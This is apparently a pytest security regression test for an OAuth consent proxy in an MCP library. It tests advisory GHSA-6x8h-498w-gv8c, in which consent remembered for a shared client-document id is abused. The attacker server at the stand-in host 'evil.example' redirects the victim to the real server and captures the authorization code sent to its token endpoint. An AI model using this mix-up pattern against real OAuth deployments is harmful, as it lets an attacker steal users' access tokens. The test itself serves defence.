"""Attacks on remembered consent: GHSA-6x8h-498w-gv8c and similar."""

from __future__ import annotations

from urllib.parse import parse_qsl, urlencode

import httpx2
import pytest
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse, RedirectResponse, Response
from starlette.routing import Route

from mcpkit.auth.authority.client import Client
from mcpkit.auth.authority.client_documents import ClientDocuments
from mcpkit.auth.proxy.remembered import FIELD
from tests.auth.proxy.world import EDITOR, MCP, ORIGIN, Browser, World, answer, form_of
from tests.helpers.oauth_flow import Login

pytestmark = pytest.mark.anyio

DOCUMENT = "https://editor.example.org/client.json"


LOCAL = "http://127.0.0.1:3000/callback"


OPENED = {"Sec-Fetch-Site": "none", "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "document"}


@pytest.fixture
def world(monkeypatch: pytest.MonkeyPatch) -> World:
    """A world with an editor whose id is the URL of a document, which is the same for all who use it."""

    async def found(self: ClientDocuments, client_id: str, caller: str | None = None) -> Client:
        assert client_id == DOCUMENT
        return Client(DOCUMENT, "Editor", (EDITOR, LOCAL))

    monkeypatch.setattr(ClientDocuments, "find", found)
    return World()


async def allowed(browser: Browser, login: Login) -> httpx2.Response:
    """Open a request as a program does, allow it, and have it remembered if that can be; return the end."""
    page = await browser.get("/authorize", params=login.query, headers=OPENED)
    form = {**form_of(page), FIELD: "yes"}
    sent = await browser.post("/authorize", data=form, headers={"Origin": ORIGIN})
    return await browser.follow(sent, until=login.redirect_uri)


class Between:
    """The attacker's server: to the victim's editor it is an authorization server, and sends browsers on to ours."""

    issuer = "https://evil.example"

    def __init__(self, world: World) -> None:
        self.got: list[dict[str, str]] = []
        world.hosts["evil.example"] = Starlette(
            routes=[Route("/authorize", self._authorize), Route("/token", self._token, methods=["POST"])]
        )

    async def _authorize(self, request: Request) -> Response:
        return RedirectResponse(
            f"{ORIGIN}/authorize?{urlencode({**request.query_params, 'resource': MCP})}", 302
        )

    async def _token(self, request: Request) -> Response:
        self.got.append(dict(parse_qsl((await request.body()).decode())))
        return JSONResponse({"error": "server_error"}, 400)


async def attack_shared_document(world: World, client_id: str, redirect_uri: str) -> str | None:
    """The victim has allowed their editor our server, and connects it to the attacker's. Nobody clicks on anything.

    Their editor does not look at `iss`, which would save it.
    """
    between = Between(world)
    async with world.browser("ada") as victim:
        own = Login(client_id, redirect_uri, resource=MCP)
        assert await world.holds(own, await allowed(victim, own)) == "ada"
        login = Login(client_id, redirect_uri, resource="https://evil.example/mcp")
        opened = await victim.get(f"{between.issuer}/authorize", params=login.query, headers=OPENED)
        led = await victim.get(opened.headers["location"], headers=OPENED)  # as Chromium does
        code = answer(await victim.follow(led, until=redirect_uri)).get("code")
        if code is None:
            return None
        await victim.post(f"{between.issuer}/token", data=login.form(code))
    found = await world.tokens(between.got[-1])
    return None if found is None else await world.whose(found["access_token"])


@pytest.mark.parametrize("redirect_uri", [EDITOR, LOCAL])
async def test_shared_document_consent_is_not_remembered(world, redirect_uri):
    assert await attack_shared_document(world, DOCUMENT, redirect_uri) is None
    assert len(world.provider.to("/authorize")) == 1  # the victim's own
